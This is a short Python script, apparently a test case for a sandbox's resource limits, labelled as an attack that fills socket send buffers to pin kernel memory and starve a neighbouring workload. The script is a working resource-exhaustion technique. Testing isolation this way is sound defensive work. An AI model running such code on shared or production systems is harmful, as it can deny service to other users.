# attack: hold kernel memory in full socket buffers
# must end: completed or out_of_memory or raised
# limits: open_files=128 wall=5s memory=256m
# with: neighbour
import socket
pairs = []
try:
    while True:
        left, right = socket.socketpair()
        pairs.append((left, right))
        left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 26)
        left.setblocking(False)
        try:
            while True:
                left.send(b"x" * 65536)
        except BlockingIOError:
            pass
except OSError:
    pass
for left, right in pairs:
    left.close(), right.close()
print("held")
